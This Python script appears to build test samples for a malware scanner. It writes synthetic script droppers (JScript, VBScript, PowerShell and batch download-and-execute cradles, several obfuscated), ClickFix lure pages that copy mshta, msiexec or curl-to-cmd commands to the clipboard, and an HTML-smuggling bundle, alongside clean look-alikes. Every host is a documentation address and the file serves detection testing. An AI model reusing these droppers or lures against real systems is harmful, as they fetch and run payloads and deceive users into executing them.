#!/usr/bin/env python3
"""Build the script-dropper and ClickFix samples (issue 15): droppers judged by what they do, under
names that say nothing (update.js, helper.ps1), some only readable after deobfuscation, and clean
scripts that download, concatenate strings or copy to the clipboard for ordinary reasons.

Written from public descriptions of SocGholish/FakeUpdates (update.js beacons with MSXML2.XMLHTTP and
evaluates the answer), VBScript downloaders (XMLHTTP + ADODB.Stream + WScript.Shell.Run) and ClickFix
variants (Microsoft Threat Intelligence, "Think before you ClickFix", 2025-08-21: mshta, msiexec,
rundll32, certutil, curl | cmd, conhost --headless).  Inert text: every URL is a documentation address
(RFC 5737 IPs, `.example`) that serves nothing, and nothing here is ever run.  Deterministic:
`python samples/build_droppers.py [--check]`.
"""

from __future__ import annotations

import sys
from pathlib import Path

from sampleio import write_samples

HERE = Path(__file__).resolve().parent
MARK = "scamscan synthetic sample - harmless text, not malware"


def _codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def _split(text: str, size: int = 3, quote: str = '"', op: str = " + ") -> str:
    parts = [text[i:i + size] for i in range(0, len(text), size)]
    return op.join(f"{quote}{p}{quote}" for p in parts)


FILES: dict[str, str] = {
    # SocGholish-style: beacon with MSXML2.XMLHTTP, evaluate the answer.  The name says nothing.
    "lures/droppers/update.js": f"""// {MARK}
var req = new ActiveXObject("MSXML2.XMLHTTP");
req.open("POST", "http://203.0.113.50/report.php", false);
req.send("id=" + WScript.CreateObject("WScript.Network").ComputerName);
if (req.status == 200) {{ eval(req.responseText); }}
""",
    # VBScript downloader: XMLHTTP + ADODB.Stream.SaveToFile + WScript.Shell.Run.
    "lures/droppers/invoice_viewer.vbs": f"""' {MARK}
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://198.51.100.20/viewer.exe", False
http.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write http.ResponseBody
path = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\viewer.exe"
st.SaveToFile path, 2
CreateObject("WScript.Shell").Run path, 0, False
""",
    # The same JScript idea with every tell-tale word assembled from pieces: only the view shows it.
    "lures/droppers/obfuscated_update.js": f"""// {MARK}
var a = new ActiveXObject({_split("MSXML2.XMLHTTP")});
var s = new ActiveXObject(String.fromCharCode({_codes("WScript.Shell")}));
a.open({_split("GET")}, {_split("http://203.0.113.51/u.txt")}, false);
a.send();
var t = String.fromCharCode({_codes("cmd /c ")}) + a.responseText;
s.Run(t, 0);
""",
    # PowerShell: download to TEMP and start it; no 'fix' or 'update' word anywhere.
    "lures/droppers/helper.ps1": f"""# {MARK}
$u = 'http://198.51.100.7/svc.exe'
$o = "$env:TEMP\\svc.exe"
Invoke-WebRequest -Uri $u -OutFile $o -UseBasicParsing
Start-Process -FilePath $o -WindowStyle Hidden
""",
    # PowerShell with iex, Net.WebClient and the URL built from char codes and -join.
    "lures/droppers/joined_cradle.ps1": f"""# {MARK}
$n = ({_codes("Net.WebClient").replace(",", ", ")} | % {{ [char]$_ }}) -join ''
$m = ({_codes("DownloadString")} | % {{ [char]$_ }}) -join ''
$u = {_split("http://203.0.113.60/s.ps1", 4, "'", "+")}
$x = ([char]105+[char]101+[char]120)
& $x ((New-Object $n).$m($u))
""",
    # Batch: certutil fetches into %TEMP%, start runs it.
    "lures/droppers/driver_repair.cmd": f"""@echo off
rem {MARK}
certutil -urlcache -split -f http://203.0.113.8/drv.exe %TEMP%\\drv.exe >nul
start "" %TEMP%\\drv.exe
""",
    # ClickFix with msiexec on the clipboard.
    "lures/droppers/clickfix_msiexec.html": f"""<!DOCTYPE html>
<html><head><title>Verification</title></head><body>
<!-- {MARK} -->
<h3>One more step</h3>
<p>1. Press <b>Windows + R</b><br>2. Press <b>CTRL + V</b><br>3. Press <b>Enter</b></p>
<button onclick="navigator.clipboard.writeText('msiexec /i https://198.51.100.9/verify.msi /qn')">Copy</button>
</body></html>
""",
    # ClickFix as instructions only (mail or PDF text): curl piped into cmd.
    "lures/droppers/clickfix_curl_cmd.txt": f"""Document access is blocked until you confirm your device.
1. Press Win + R to open the Run box
2. Paste this line: curl -s https://203.0.113.4/check | cmd
3. Press Enter and wait for the confirmation.
({MARK})
""",
    # ClickFix whose clipboard command is assembled, so only the view names mshta; also conhost --headless.
    "lures/droppers/clickfix_concat.html": f"""<!DOCTYPE html>
<html><body><!-- {MARK} -->
<p>To prove you are not a robot: press Win + R, then Ctrl + V, then Enter.</p>
<script>
var c = {_split("mshta https://203.0.113.77/p.hta")};
var d = {_split("conhost.exe --headless cmd /c x")};
function go() {{ navigator.clipboard.writeText(c + " & " + d); }}
</script></body></html>
""",
    # ClickFix whose clipboard command is stored reversed and rebuilt with split/reverse/join, and whose
    # "Win + R" instruction is written with character references, so neither is in the page as such.
    "lures/droppers/clickfix_reversed.html": f"""<!DOCTYPE html>
<html><body><!-- {MARK} -->
<p>Verification steps: press Win &#43; R, then Ctrl &plus; V, then Enter.</p>
<script>
var c = "{"mshta https://203.0.113.78/verify.hta"[::-1]}".split("").reverse().join("");
function go() {{ navigator.clipboard.writeText(c); }}
</script></body></html>
""",
    # The shells' own escapes (DOSfuscation): carets and "" pairs inside words hide mshta/rundll32.
    "lures/droppers/caret_printer_fix.bat": f"""@echo off
rem Printer spooler repair. {MARK}
m^s^h^t^a.exe ht^tps://203.0.113.62/fix/spooler.hta
r"un"dl"l"32.exe url.dll,OpenURL http://203.0.113.62/fix/update.hta
echo Printer fixed.
""",
    # Invoke-Obfuscation's ticks and format operator, the command called through a variable.
    "lures/droppers/ticked_cradle.ps1": f"""# Teams cache repair. {MARK}
S`top-Pro`cess -Name ms-teams -ErrorAction SilentlyContinue
$c = ("{{1}}{{0}}" -f 'wr','i'); $x = ("{{1}}{{0}}" -f 'ex','i')
& $c -Uri http://203.0.113.81/teams/fix.ps1 -UseBasicParsing | & $x
""",
    # invoice_viewer.vbs with its ProgIDs reversed (StrReverse) and salted (Replace), as VBS droppers do.
    "lures/droppers/reversed_viewer.vbs": f"""' Invoice viewer setup. {MARK}
Set http = CreateObject(StrReverse("PTTHLMX.2LMXSM"))
http.Open "GET", "http://198.51.100.21/viewer.exe", False
http.Send
Set st = CreateObject(Replace("ADO#DB.Str#eam", "#", ""))
st.Type = 1 : st.Open : st.Write http.ResponseBody
Set sh = CreateObject(Replace("WSc#ript.Sh#ell", "#", ""))
path = sh.ExpandEnvironmentStrings("%TEMP%") & "\\viewer.exe"
st.SaveToFile path, 2
sh.Run path, 0, False
""",
    # HTML smuggling of an installer from a bundle with an ordinary name.
    "lures/droppers/app.bundle.js": f"""/* {MARK} */
(function () {{
  var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==";
  var raw = atob(b64), buf = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) {{ buf[i] = raw.charCodeAt(i); }}
  var blob = new Blob([buf], {{ type: "application/octet-stream" }});
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "TeamsSetup.msi";
  a.click();
}})();
""",
    # ---- clean look-alikes
    # A logon script: Replace on a variable path, StrReverse in a self-test, a local shortcut; no download.
    "clean/droppers/logon_paths.vbs": f"""' Map the team share at logon. {MARK}
Set net = CreateObject("WScript.Network")
share = Replace("\\\\files\\team", "\\", "\\")
If StrReverse("abc") <> "cba" Then WScript.Quit 1
net.MapNetworkDrive "T:", share
""",
    # A batch file escaping what cmd would read as syntax, and quoting a path: no tool, no download.
    "clean/droppers/echo_escapes.bat": f"""@echo off
rem Build notes. {MARK}
echo Tom ^& Jerry ^<team^> 100%%
set "OUT=C:\\Build Output"
if not exist "%OUT%" mkdir "%OUT%"
echo Done.
""",
    # A report script: format operator on variables, tabs in strings, a tool called through a variable.
    "clean/droppers/format_report.ps1": f"""# Repository report. {MARK}
$tool = "git"
$n = (& $tool ls-files | Measure-Object).Count
Write-Host ("{{0}} files in {{1}}" -f $n, (Get-Location))
Write-Host "name`tcount`n"
""",
    # A help page: keyboard shortcuts written with character references, and a string reversed for a
    # palindrome demo; no command, no clipboard.
    "clean/droppers/shortcuts_help.html": f"""<!DOCTYPE html>
<html><body><!-- {MARK} -->
<p>Open the Run dialog with Win &#43; R; paste with Ctrl &plus; V.</p>
<script>
var word = "racecar"; var back = "racecar".split("").reverse().join("");
document.title = (word === back) ? "palindrome" : "not a palindrome";
</script></body></html>
""",
    # An installer script: HTTPS download of an MSI into the working folder, then msiexec.
    "clean/droppers/install_tools.ps1": f"""# Install the build tools (maintainer script). {MARK}
$msi = Join-Path $PSScriptRoot 'tools.msi'
Invoke-WebRequest -Uri 'https://downloads.example.org/tools/1.4/tools.msi' -OutFile $msi
Start-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn" -Wait
""",
    # Browser code: XMLHttpRequest (not MSXML2) and JSON, plus string concatenation and char codes.
    "clean/droppers/widgets.js": f"""/* {MARK} */
var sep = String.fromCharCode(32, 45, 32);
function title(a, b) {{ return "Report" + " " + "for" + " " + a + sep + b; }}
var req = new XMLHttpRequest();
req.open("GET", "/api/widgets.json");
req.onload = function () {{ render(JSON.parse(req.responseText)); }};
req.send();
""",
    # Admin VBScript: runs ipconfig and reads an XML file; no download.
    "clean/droppers/inventory.vbs": f"""' Inventory helper. {MARK}
Set sh = CreateObject("WScript.Shell")
sh.Run "ipconfig /all > " & "C:\\Inventory\\" & "net.txt", 0, True
Set doc = CreateObject("MSXML2.DOMDocument.6.0")
doc.Load "C:\\Inventory\\devices.xml"
""",
    # A build script: curl over HTTPS into the working folder, then call the build.
    "clean/droppers/build.cmd": f"""@echo off
rem {MARK}
curl -L -o tools.zip https://downloads.example.org/tools.zip
tar -xf tools.zip
call build.bat
""",
    # A page that exports a PDF report through a Blob (same calls as smuggling, a document name).
    "clean/droppers/export.js": f"""/* {MARK} */
function save(b64) {{
  var raw = atob(b64), buf = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) {{ buf[i] = raw.charCodeAt(i); }}
  var a = document.createElement("a");
  a.href = URL.createObjectURL(new Blob([buf], {{ type: "application/pdf" }}));
  a.download = "report.pdf";
  a.click();
}}
""",
    # A help page that explains how to open the Run box and copy a harmless command.
    "clean/droppers/run_box_help.html": f"""<!DOCTYPE html>
<html><body><!-- {MARK} -->
<p>To check your network settings press Win + R, type <code>cmd</code>, press Enter, then type
<code>ipconfig /all</code>. Use Ctrl + V to paste the command we copied for you.</p>
<button onclick="navigator.clipboard.writeText('ipconfig /all')">Copy</button>
</body></html>
""",
}


def main(argv: list[str]) -> int:
    return write_samples({k: v.encode("utf-8") for k, v in FILES.items()}, HERE, "--check" in argv)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
